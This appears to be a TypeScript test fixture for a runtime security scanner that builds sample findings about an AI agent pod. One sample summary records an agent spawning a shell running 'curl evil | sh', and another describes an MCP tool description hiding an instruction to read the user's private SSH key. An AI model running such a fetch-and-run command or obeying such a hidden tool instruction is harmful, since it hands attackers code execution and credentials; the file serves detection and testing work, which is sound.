import type { Finding, WorkloadRef } from '@vigil/core';

const agent: WorkloadRef = {
  id: 'k8s:pod-1/abc',
  kind: 'kubernetes-pod',
  name: 'agent',
  namespace: 'ai',
  labels: {},
};

export function finding(over: Partial<Finding> & Pick<Finding, 'id' | 'severity'>): Finding {
  return {
    ruleId: 'vigil.runtime.shell-spawned',
    title: 'Shell spawned by an agent',
    category: 'detection',
    workload: agent,
    ts: 1_764_000_000_000_000_000,
    summary: 'python3 (pid 41) spawned /bin/sh -c "curl evil | sh"',
    evidence: [{ type: 'note', description: 'exec of /bin/sh by python3' }],
    tags: { owaspLlm: ['LLM06'], owaspAgentic: ['ASI05'], atlas: ['AML.T0051'], attack: ['T1059.004'] },
    compliance: [{ framework: 'nist-ai-rmf', control: 'MANAGE 4.1' }],
    risk: { score: 80, reasons: ['observed at run time'] },
    ...over,
  };
}

export const sampleFindings: Finding[] = [
  finding({ id: 'f1', severity: 'critical', risk: { score: 95, reasons: ['confirmed'] } }),
  finding({
    id: 'f2',
    severity: 'medium',
    ruleId: 'vigil.supply-chain.mcp-hidden-instruction',
    title: 'Hidden instruction in MCP tool description',
    category: 'supply-chain',
    summary: 'tool "add" of server "math" tells the model to read ~/.ssh/id_rsa',
    evidence: [
      {
        type: 'artifact',
        description: 'tool description',
        uri: 'mcp.json',
        path: 'mcpServers.math',
        line: 4,
      },
    ],
    risk: { score: 40, reasons: ['never invoked'] },
  }),
  finding({
    id: 'f3',
    severity: 'low',
    ruleId: 'vigil.drift.file',
    title: 'New file | path',
    category: 'drift',
    risk: { score: 10, reasons: [] },
  }),
];
